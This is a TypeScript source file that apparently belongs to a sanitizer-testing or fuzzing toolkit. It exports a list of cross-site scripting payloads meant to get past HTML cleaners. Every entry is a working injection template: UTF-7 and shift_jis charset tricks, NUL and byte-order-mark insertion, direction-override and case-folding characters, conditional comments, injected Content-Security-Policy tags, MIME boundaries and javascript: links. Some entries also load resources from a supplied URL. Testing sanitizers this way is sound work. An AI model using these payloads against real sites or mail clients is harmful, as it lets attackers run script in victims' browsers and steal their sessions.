import { base64, type PayloadClass } from './payload'

/** Charsets, byte marks and conditions that show one thing to the cleaner and another to the reader. */
export const disguises: PayloadClass = {
  name: 'charsets and conditions',
  payloads: [
    ['UTF-7', ({ js }) => `<meta http-equiv=content-type content="text/html; charset=utf-7">+ADw-script+AD4-${js}+ADw-/script+AD4-`],
    ['UTF-7 with a mark', ({ js }) => `+/v8 +ADw-script+AD4-${js}+ADw-/script+AD4-`],
    ['a charset that is changed', ({ js }) => `<meta charset=iso-2022-jp>\x1b$B<b title="\x1b(B"><img src=x: onerror=${js}>">`],
    [
      'a sign of two bytes that swallows a quote',
      ({ js }) => `<meta charset=shift_jis><b title="\u0081"><b title="><img src=x: onerror=${js}>">`,
    ],
    ['US-ASCII with the eighth bit', ({ js }) => `<meta charset=us-ascii>\u00bcscript\u00be${js}\u00bc/script\u00be`],
    ['overlong signs', ({ js }) => `\u00c0\u00bcscript\u00c0\u00be${js}\u00c0\u00bc/script\u00c0\u00be`],
    ['full width brackets', ({ js }) => `＜script＞${js}＜/script＞`],
    ['small brackets', ({ js }) => `﹤img src=x: onerror=${js}﹥`],
    ['NUL in the tag', ({ js }) => `<scr\0ipt>${js}</scr\0ipt><im\0g src=x: onerror=${js}>`],
    ['NUL before the tag', ({ js }) => `\0<img src=x: onerror=${js}>`],
    ['byte order mark in the middle', ({ js }) => `\ufeff<\ufeffimg src=x: onerror=${js}><img\ufeff src=x: onerror=${js}>`],
    ['a lone half of a sign', ({ js }) => `\ud800<img src=x: onerror=${js}>\udc00`],
    ['signs that turn the direction', ({ js }) => `\u202e<img src=x: onerror=${js}>\u202c`],
    ['a capital that grows when it is made small', ({ js }) => `<İmg src=x: onerror=${js}><ſcript>${js}</ſcript><ſvg onload=${js}>`],
    ['the sign of kelvin', ({ js }) => `<linK rel=x><marqueeK onstart=${js}>x`],
    ['old Internet Explorer', ({ js }) => `<!--[if IE]><img src=x: onerror=${js}><![endif]-->`],
    ['everything but Internet Explorer', ({ js }) => `<!--[if !IE]><!--><img src=x: onerror=${js}><!--<![endif]-->`],
    [
      'old Outlook',
      ({ url }) =>
        `<!--[if gte mso 9]><xml><o:shapedefaults v:ext="edit"/></xml><v:background fill="t"><v:fill type="tile" src="${url}/x.png"/></v:background><![endif]-->`,
    ],
    [
      'a condition in a comment of another kind',
      ({ js }) => `<comment><img src=x: onerror=${js}></comment><!-- > --><img src=x: onerror=${js}><!-- -->`,
    ],
    [
      'an XML declaration',
      ({ js }) => `<?xml version="1.0" encoding="utf-7"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${js}</script></html>`,
    ],
    ['a second document', ({ js }) => `</body></html><!doctype html><html><head><script>${js}</script></head><body>x`],
    ['an end of our document', ({ js, url }) => `</main></body></html><img src=x: onerror=${js}><img src="${url}/x.png">`],
    ['an end of our title and style', ({ js }) => `</title></style></textarea></noscript></template><script>${js}</script>`],
    [
      'a head below the body',
      ({ url }) => `<head><link rel=stylesheet href="${url}/x.css"><meta http-equiv=refresh content="0;url=${url}/"></head>`,
    ],
    [
      'a policy of its own',
      ({ js }) => `<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'; img-src *"><script>${js}</script>`,
    ],
    ['a policy by header words', ({ js }) => `Content-Security-Policy: default-src *\r\n\r\n<script>${js}</script>`],
    [
      'a page in an attachment type',
      ({ js }) => `<object type="text/x-scriptlet" data="data:text/x-scriptlet,<script>${js}</script>"></object>`,
    ],
    [
      'a boundary of a mail',
      ({ js }) =>
        `\r\n--boundary\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64(`<script>${js}</script>`)}\r\n--boundary--`,
    ],
    ['an address of a plain text', ({ js }) => `a@a.co?]<img/src="x:"/onerror=${js}>`],
    ['an address in angle brackets', ({ js }) => `<https://x.example/"onmouseover="${js}">`],
    ['an address in square brackets', ({ js }) => `[x](javascript:${js}) <javascript:${js}> [y]: javascript:${js}`],
    ['a MIME type as a text', ({ js }) => `text/html"><img src=x: onerror=${js}>`],
  ],
}
